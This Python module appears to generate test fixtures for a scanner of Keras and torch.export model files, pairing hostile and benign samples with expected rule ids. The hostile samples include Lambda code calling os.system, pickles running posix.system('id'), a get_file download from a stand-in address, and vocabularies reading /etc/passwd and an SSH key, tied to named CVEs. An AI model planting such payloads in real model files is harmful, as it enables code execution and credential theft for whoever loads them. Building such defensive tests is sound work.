"""Keras configurations and archives, hostile and benign, written by hand; and what Keras 3.15 wrote.

bad() and good() yield (name, bytes, rules, why); see run.py.
"""
import base64
import gzip
import io
import json
import pathlib
import struct
import zipfile

FIXTURES = pathlib.Path(__file__).resolve().parent.parent / "fixtures/keras"
METADATA = {"keras_version": "3.10.0", "date_saved": "2025-06-01@10:00:00"}


# ---- marshalled code, of any version ----

def m_bytes(data):
    return b"s" + struct.pack("<I", len(data)) + data


def m_name(text):
    return b"z" + bytes([len(text)]) + text.encode()


def m_tuple(items):
    return b")" + bytes([len(items)]) + b"".join(items)


def code(names=("os", "system"), consts=(b"N",), layout="3.12", ref=True):
    """A code object whose byte code is beside the point: names and constants as given."""
    counts = {"2.7": 4, "3.6": 5, "3.8": 6, "3.12": 5}[layout]
    out = (b"\xe3" if ref else b"c") + struct.pack("<%dI" % counts, *([1] * (counts - 1)), 0x43)
    out += m_bytes(b"\x97\x00S\x00") + m_tuple(list(consts)) + m_tuple([m_name(n) for n in names])
    if layout == "3.12":
        out += m_tuple([m_name("x")]) + m_bytes(b"&") + m_name("f.py") + m_name("<lambda>")
        out += m_name("<lambda>") + struct.pack("<I", 1) + m_bytes(b"") + m_bytes(b"")
    else:
        out += m_tuple([m_name("x")]) + m_tuple([]) + m_tuple([]) + m_name("f.py")
        out += m_name("<lambda>") + struct.pack("<I", 1) + m_bytes(b"")
    return out


def text64(data):
    return base64.encodebytes(data).decode()


# ---- configurations ----

def obj(name, config=None, module="keras.layers", registered=None, **more):
    return {"module": module, "class_name": name, "config": config if config is not None else {},
            "registered_name": registered, **more}


def legacy(name, config=None):
    return {"class_name": name, "config": config if config is not None else {}}


def sequential(*layers, **more):
    return obj("Sequential", {"name": "sequential", "trainable": True, "layers": [
        obj("InputLayer", {"batch_shape": [None, 8], "dtype": "float32", "name": "i"}), *layers]},
        "keras", **more)


def dense(**config):
    return obj("Dense", {"name": "d", "units": 2, "activation": "relu", **config})


def archive(config, metadata=METADATA, encoding="utf-8", extra=None, raw=None):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        members = {"metadata.json": json.dumps(metadata).encode(),
                   "config.json": raw if raw is not None else json.dumps(config).encode(encoding),
                   **(extra or {})}
        for name, data in members.items():
            z.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def lam(data, **more):
    return obj("Lambda", {"name": "l", "function": {"class_name": "__lambda__", "config": {
        "code": data, "defaults": None, "closure": None}}, **more})


def old_lambda(data, kind="lambda"):
    return legacy("Lambda", {"name": "l", "function": [data, None, None], "function_type": kind,
                             "module": "__main__", "output_shape": None})


def function(module, name, registered="function"):
    return {"module": module, "class_name": "function", "config": name,
            "registered_name": registered}


def deep(layer, n):
    for _ in range(n):
        layer = obj("TimeDistributed", {"layer": layer})
    return layer


def bad_lambdas():
    for layout in ("2.7", "3.6", "3.8", "3.12"):
        yield ("lambda_%s.keras" % layout, archive(sequential(lam(text64(code(layout=layout))))),
               {"MDL110"}, "a Lambda layer's code of Python " + layout)
        yield ("old_lambda_%s.json" % layout, json.dumps(legacy("Sequential", [
            legacy("Dense"), old_lambda(text64(code(layout=layout)))])).encode(),
            {"MDL113"}, "model.to_json() of Keras 2")
    yield ("lambda_os.keras", archive(sequential(lam(text64(code())))), {"MDL111"}, "os.system")
    yield ("lambda_import.keras", archive(sequential(lam(text64(code(
        ("__import__", "system"), (b"N", m_name("os"))))))), {"MDL111"}, "__import__('os').system")
    nested = code(("outer",), (b"N", code(("subprocess", "Popen"))))
    yield ("lambda_inner.keras", archive(sequential(lam(text64(nested)))), {"MDL111"},
           "the call is in a function inside the function")
    yield ("lambda_plain.keras", archive(sequential(lam(text64(code(("tf", "square")))))),
           {"MDL113"}, "it may be harmless; it is code all the same")
    yield ("lambda_spaced.keras", archive(sequential(lam("!".join(text64(code()))))), {"MDL110"},
           "characters that base64 passes over")
    yield ("lambda_latin.json", json.dumps(legacy("Sequential", [old_lambda(
        code(layout="2.7", ref=False).decode("latin-1"))])).encode(), {"MDL110"},
        "Keras 1: bytes as characters")
    yield ("lambda_output.keras", archive(sequential(obj("Lambda", {
        "function": function("keras.activations", "relu"), "output_shape": {
            "class_name": "__lambda__", "config": {"code": text64(code())}}}))), {"MDL110"},
        "the shape is a function")
    yield ("lambda_wrapped.keras", archive(sequential(deep(lam(text64(code())), 30))), {"MDL110"},
           "thirty wrappers around it")
    yield ("lambda_broken.keras", archive(sequential(lam(text64(b"\xe3\1\0\0")))), {"MDL113"},
           "code that no Python reads: it is a Lambda layer still")
    yield ("lambda_compile.keras", archive(sequential(dense(), compile_config={
        "loss": {"class_name": "__lambda__", "config": {"value": [text64(code()), None, None]}}})),
        {"MDL113"}, "the loss is a lambda")
    yield ("lambda_named.keras", archive(sequential(obj("Lambda", {"function": "my_function",
        "function_type": "function", "module": "my_module"}))), {"MDL101", "MDL114"},
        "a function by its name, looked for in a module")
    yield ("lambda_alias.keras", archive(sequential(obj("Lambda", {"function": [
        text64(code()), None, None], "function_type": "lambda"},
        "keras.src.layers.core.lambda_layer"))), {"MDL110"}, "by its inner module")
    yield ("lambda_list.json", json.dumps({"keras_version": "2.3.1", "backend": "tensorflow",
        "class_name": "Model", "config": {"layers": [old_lambda(text64(code()))]}}).encode(),
        {"MDL110"}, "a functional model of Keras 2")


def bad_names():
    for module, name in (("os", "system"), ("builtins", "eval"), ("subprocess", "Popen"),
                         ("posix", "system"), ("runpy", "run_path"), ("torch", "load")):
        yield ("function_%s_%s.keras" % (module, name), archive(sequential(dense(
            activation=function(module, name)))), {"MDL100"}, "CVE-2025-1550")
    yield ("class_popen.keras", archive(sequential(obj("Popen", {"args": ["id"]}, "subprocess"))),
           {"MDL100"}, "a class outside Keras")
    yield ("root_class.keras", archive(obj("Popen", {"args": ["id"]}, "subprocess")), {"MDL100"},
           "the model itself is one")
    yield ("get_file.keras", archive(sequential(obj("Lambda", {
        "function": function("keras.utils", "get_file"),
        "arguments": {"origin": "http://192.0.2.1/x", "cache_dir": "/tmp"}}))), {"MDL116"},
        "CVE-2025-8747")
    yield ("unsafe.keras", archive(sequential(obj("Lambda", {"function": function(
        "keras.config", "enable_unsafe_deserialization")}))), {"MDL116"}, "CVE-2025-9906")
    yield ("load_model.keras", archive(sequential(obj("Lambda", {"function": function(
        "keras.models", "load_model")}))), {"MDL116"}, "loads another model")
    yield ("function_as_class.keras", archive(sequential(obj("get_file", {
        "fname": "x", "origin": "http://192.0.2.1/x"}, "keras.utils"))), {"MDL116"},
        "a function where a class is named")
    yield ("torch.keras", archive(sequential(obj("TorchModuleWrapper", {
        "module": text64(b"\x80\x04cposix\nsystem\n\x8c\x02id\x85R.")}))), {"MDL115"},
        "CVE-2025-49655")
    yield ("torch_pickle.keras", archive(sequential(obj("TorchModuleWrapper", {
        "module": text64(b"\x80\x04cposix\nsystem\n\x8c\x02id\x85R.")}))), {"PKL001"},
        "and the pickle in it is inspected")
    yield ("vocabulary.keras", archive(sequential(obj("StringLookup", {
        "vocabulary": "/etc/passwd"}))), {"MDL104"}, "CVE-2025-12058")
    yield ("vocabulary_up.keras", archive(sequential(obj("TextVectorization", {
        "vocabulary": "../../../home/u/.ssh/id_rsa"}))), {"MDL104"}, "leaves the folder")
    yield ("vocabulary_url.keras", archive(sequential(obj("IndexLookup", {
        "vocabulary": "http://192.0.2.1/v.txt"}))), {"MDL106"}, "an address")
    yield ("vocabulary_gs.keras", archive(sequential(obj("StringLookup", {
        "vocabulary": "gs://bucket/v.txt"}))), {"MDL104"}, "a bucket")
    yield ("savedmodel.keras", archive(sequential(obj("TFSMLayer", {
        "filepath": "/tmp/evil", "call_endpoint": "serve"}))), {"MDL120", "MDL104"},
        "another model")
    yield ("custom.keras", archive(sequential(obj("Evil", {}, None, "Custom>Evil"))), {"MDL114"},
           "a class that is not in the file")
    yield ("custom_old.json", json.dumps(legacy("Sequential", [legacy("MyAttention")])).encode(),
           {"MDL114"}, "a custom layer of Keras 2")
    yield ("custom_activation.keras", archive(sequential(dense(activation=function(
        "builtins", "my_activation")))), {"MDL114"}, "a custom function")
    yield ("dotted.keras", archive(sequential(dense(activation="os.system"))), {"MDL100"},
           "an activation by a dotted name")
    yield ("typespec.keras", archive(sequential(dense(spec={"class_name": "__typespec__",
        "spec_name": "system", "module": "os", "registered_name": "system", "config": ["id"]}))),
        {"MDL100", "MDL101"}, "a type's specification of any module")
    yield ("foreign.keras", archive(sequential(obj("Layer", {}, "my_layers"))), {"MDL101"},
           "a module that is not known")
    yield ("lookalike.keras", archive(sequential(obj("Dense", {}, "kerasx.layers"))), {"MDL101"},
           "a module that only starts like Keras")


def bad_documents():
    config = sequential(lam(text64(code())))
    for encoding in ("utf-16", "utf-32", "utf-8-sig", "utf-16-le"):
        yield ("lambda_%s.keras" % encoding, archive(config, encoding=encoding), {"MDL110"},
               "JSON in " + encoding)
    escaped = json.dumps(config).replace("Lambda", "\\u004cambda").replace("__lambda__",
                                                                           "__\\u006cambda__")
    yield ("lambda_escaped.keras", archive(None, raw=escaped.encode()), {"MDL113"},
           "names written with escapes")
    twice = json.dumps(sequential(dense())).replace(
        '"class_name": "Dense"', '"class_name": "Evil", "class_name": "Dense"')
    yield ("duplicate.keras", archive(None, raw=twice.encode()), {"MDL119"}, "a key given twice")
    yield ("truncated.keras", archive(None, raw=json.dumps(config).encode()[:-9]), {"ENG001"},
           "JSON cut off")
    yield ("deep.keras", archive(None, raw=b'{"a":' * 5000 + b"1" + b"}" * 5000), {"ENG001"},
           "nested five thousand deep")
    yield ("pickle_beside.keras", archive(sequential(dense()), extra={
        "assets/x.pkl": b"\x80\x04cposix\nsystem\n\x8c\x02id\x85R."}), {"PKL001"},
        "a pickle among the assets")
    yield ("tfop.keras", archive(legacy("Functional", {"layers": [legacy("TFOpLambda", {
        "name": "tf.io.write_file", "function": "io.write_file"})]})), {"MDL118"},
        "a call of TensorFlow that writes files")
    yield ("tfop_unknown.keras", archive(legacy("Functional", {"layers": [legacy("TFOpLambda", {
        "function": "grappler.optimize"})]})), {"MDL117"}, "a call that is not known")
    yield ("node_def.keras", archive(legacy("Functional", {"layers": [legacy("TensorFlowOpLayer", {
        "node_def": json.dumps({"name": "r", "op": "ReadFile", "input": ["x"]}),
        "constants": {}})]})), {"MDL118"}, "an operator of graphs that reads files")
    yield ("node_name.keras", archive(legacy("Functional", {"layers": [legacy("TensorFlowOpLayer", {
        "node_def": json.dumps({"name": "op:Add", "op": "WriteFile"})})]})), {"MDL118"},
        "its own name looks like an operator")
    yield ("keys_escaped.keras", archive(None, raw=json.dumps(config).replace(
        "class_name", "class\\u005fname").encode()), {"MDL110"}, "keys written with escapes")
    yield ("typed.keras", archive(sequential(dense(spec={"class_name": "__typespec__",
        "spec_name": "eval", "module": "builtins", "registered_name": None, "config": ["1"]}))),
        {"MDL100"}, "a specification of any function")
    yield ("tfjs.json", json.dumps({"format": "layers-model", "modelTopology": {
        "keras_version": "2.15.0", "model_config": legacy("Sequential", {"layers": [
            legacy("Dense")]})}, "weightsManifest": [{"paths": ["../../weights.bin"],
                                                      "weights": []}]}).encode(),
        {"MDL104"}, "TF.js: weights outside of the folder")
    yield ("tfjs_lambda.json", json.dumps({"format": "layers-model", "modelTopology": {
        "model_config": legacy("Sequential", {"layers": [old_lambda(text64(code()))]})},
        "weightsManifest": []}).encode(), {"MDL110"}, "TF.js: a Lambda layer")
    yield ("yaml_lambda.yaml", ("class_name: Sequential\nconfig:\n- class_name: Lambda\n  config:\n"
                                "    function_type: lambda\n    function:\n    - \"%s\"\n    - null\n"
                                % text64(code()).replace("\n", "")).encode(), {"MDL110"},
           "YAML of Keras 1")


# ---- torch.export ----

def export(target="torch.ops.aten.relu.default", size="Symbol('s0', positive=True, integer=True)",
           guard="L['x'].size()[0] == 3", extra=None, name="m/models/m.json"):
    node = {"target": target, "inputs": [{"name": "self", "arg": {"as_tensor": {"name": "x"}},
                                          "kind": 1}], "outputs": [], "metadata": {}}
    program = {"graph_module": {"graph": {"inputs": [], "outputs": [], "nodes": [node],
               "tensor_values": {"x": {"sizes": [{"as_expr": {"expr_str": size,
                                                              "hint": {"as_int": 3}}}]}}}},
               "opset_version": {"aten": 10}, "range_constraints": {}, "torch_version": "2.15.0",
               "schema_version": {"major": 8, "minor": 8}, "guards_code": [guard]}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for member, data in {"m/archive_format": b"pt2", "m/archive_version": b"0",
                             name: json.dumps(program).encode(), **(extra or {})}.items():
            z.writestr(zipfile.ZipInfo(member, (1980, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def bad_exports():
    for target, rules in (("torch.ops.mylib.run.default", {"MDL121"}), ("#mylib:run", {"MDL121"}),
                          ("torch.ops.aten.save.default", {"MDL122"}), ("os.system", {"MDL121"}),
                          ("torch.load", {"MDL100", "MDL101"}), ("torch.hub.load", {"MDL100"}),
                          ("torch.os.system", {"MDL100"}), ("_operator.methodcaller", {"MDL121"}),
                          ("_operator.attrgetter", {"MDL121"}), ("math.__loader__", {"MDL121"}),
                          ("torch.ops.aten.add.__class__", {"MDL122"})):
        yield "export_%s.pt2" % target, export(target), rules, "a node that calls " + target
    for i, size in enumerate(("__import__('os').system('id')", "Symbol('x').func.__globals__",
                              "(lambda: 1)()", "eval('1')", "[c for c in ()]", "Symbol('a;b')",
                              "Integer(1)(2)", "s0.args[0]", "os.system", "'id'.join",
                              "Symbol('\\x41')", "exec", "{}", "open('x')")):
        yield "export_size_%d.pt2" % i, export(size=size), {"MDL124"}, size
    for i, guard in enumerate(("L['x'].__class__", "L['x'].register_hook(y)",
                               "__import__('os').system('id')", "(x := 1)", "exec('1')")):
        yield "export_guard_%d.pt2" % i, export(guard=guard), {"MDL124"}, guard
    yield "export_function.pt2", export(size="Frobnicate(s0)"), {"MDL123"}, "not a known function"
    yield ("export_old.pt2", export("torch.ops.aten.save.default",
                                    name="serialized_exported_program.json"), {"MDL122"},
           "the form before 2.8")
    yield ("export_pickle.pt2", export(extra={"m/data/weights/weight_0":
           b"\x80\x04cposix\nsystem\n\x8c\x02id\x85R."}), {"PKL001"}, "a weight that is a pickle")


def bad():
    yield from bad_exports()
    yield from bad_lambdas()
    yield from bad_names()
    yield from bad_documents()


def good_written():
    yield "plain.keras", archive(sequential(dense())), (), "a plain model"
    yield ("inline_vocabulary.keras", archive(sequential(obj("StringLookup", {"vocabulary": [
        "os.system", "eval", "/etc/passwd", "Lambda", "http://192.0.2.1/"]}))), (),
        "words that look guilty in a vocabulary")
    yield ("named_lambda.keras", archive(sequential(dense(name="lambda"), obj("Dense", {
        "name": "os.system"}))), (), "layers with odd names")
    yield ("functions.keras", archive(sequential(
        dense(activation=function("builtins", "relu")),
        dense(activation=function("keras.activations", "gelu", None)),
        dense(kernel_initializer=obj("GlorotUniform", {"seed": None}, "keras.initializers")),
        compile_config={"optimizer": "adam", "loss": function("keras.losses", "mse"),
                        "metrics": ["accuracy"]})), (), "functions of Keras")
    yield ("operators.json", json.dumps(legacy("Functional", {"name": "EfficientNet", "layers": [
        legacy("TFOpLambda", {"name": "tf.math.multiply", "function": "math.multiply"}),
        legacy("TFOpLambda", {"name": "tf.reshape", "function": "reshape"}),
        legacy("SlicingOpLambda", {"function": "__operators__.getitem"}),
        legacy("TFOpLambda", {"function": "image.resize"}),
        legacy("TensorFlowOpLayer", {"node_def": json.dumps({"name": "a", "op": "AddV2"})}),
    ]})).encode(), (), "calls of TensorFlow that compute")
    yield ("keras1.json", json.dumps({"class_name": "Sequential", "keras_version": "1.2.2",
        "config": [legacy("Convolution2D"), legacy("MaxPooling2D"), legacy("Dense")]}).encode(),
        (), "Keras 1")
    yield ("lstm.json", json.dumps(legacy("Model", {"layers": [legacy("CuDNNLSTM"), legacy(
        "Bidirectional", {"layer": legacy("LSTM")}), legacy("TimeDistributed", {
            "layer": legacy("Dense")})]})).encode(), (), "Keras 2")
    yield ("hub.keras", archive(obj("BertClassifier", {"backbone": obj("BertBackbone", {
        "vocabulary_size": 30522}, "keras_hub.src.models.bert.bert_backbone",
        "keras_hub>BertBackbone")}, "keras_hub.src.models.bert.bert_classifier",
        "keras_hub>BertClassifier")), (), "KerasHub")
    yield ("policy.keras", archive(sequential(dense(dtype=obj("DTypePolicy", {
        "name": "mixed_float16"}, "keras")))), (), "mixed precision")
    yield ("tensor.keras", archive(sequential(dense(args=[{"class_name": "__keras_tensor__",
        "config": {"shape": [None, 8], "dtype": "float32", "keras_history": ["i", 0, 0]}}]),
        dense(x={"class_name": "__numpy__", "config": {"value": [1.0], "dtype": "float32"}}))), (),
        "tensors and arrays in a configuration")
    yield ("tfjs.json", json.dumps({"format": "layers-model", "modelTopology": {
        "keras_version": "2.15.0", "backend": "tensorflow", "model_config": legacy("Sequential", {
            "layers": [legacy("Dense", {"units": 1})]})}, "weightsManifest": [
                {"paths": ["group1-shard1of1.bin"], "weights": []}]}).encode(), (), "TF.js")
    yield ("keras1.yaml", b"backend: tensorflow\nclass_name: Sequential\nconfig:\n"
           b"- class_name: Dense\n  config: {units: 4, activation: relu}\nkeras_version: 2.2.4\n",
           (), "YAML of Keras 1")
    yield ("typespec.keras", archive(sequential(dense(spec={"class_name": "__typespec__",
        "spec_name": "TensorSpec", "module": "tensorflow.python.framework.tensor_spec",
        "registered_name": None, "config": [[None, 8], "float32", "x"]}), dense(shape={
            "class_name": "TypeSpec", "type_spec": "TensorSpec", "serialized": [[8], "int32", None]}),
        dense(t={"class_name": "__tuple__", "items": [1, 2]}))), (), "specifications of tensors")
    yield ("base64.keras", archive(sequential(dense(name="c" * 64), dense(name=text64(
        b"weights of the third layer, best run")))), (), "text that is base64 of nothing much")


def good_exports():
    for i, size in enumerate(("s0", "2*s0 + 1", "Max(1, s0//2)", "Mod(s0, 4)", "True", "3.5",
                              "FloorDiv(Mul(Integer(4), Symbol('s17', integer=True)), Integer(2))",
                              "Piecewise((s0, s0 > 1), (1, True))", "-s0**2", "u0 & ~u1")):
        yield "export_size_%d.pt2" % i, export(size=size), (), size
    for target in ("torch.ops.higher_order.cond", "_operator.mul", "torch.sym_max", "math.sqrt",
                   "torch.ops.torchvision.nms.default", "torch.ops.quantized_decomposed.x.default"):
        yield "export_%s.pt2" % target, export(target), (), "a node that computes"
    for path in sorted((FIXTURES.parent / "export").glob("*.pt2")):
        yield path.name, path.read_bytes(), (), "saved by torch 2.15"


def good():
    yield from good_exports()
    yield from good_written()
    for path in sorted(FIXTURES.glob("application_*.gz")):
        text = gzip.decompress(path.read_bytes())
        yield path.name[:-3], text, (), "keras.applications"
        yield path.name[:-8] + ".keras", archive(None, raw=text), (), "the same in an archive"
    for path in sorted([*FIXTURES.glob("[!hr]*.keras"), *FIXTURES.glob("*.h5")]):
        yield path.name, path.read_bytes(), (), "saved by Keras 3.15 or tf_keras 2.21"
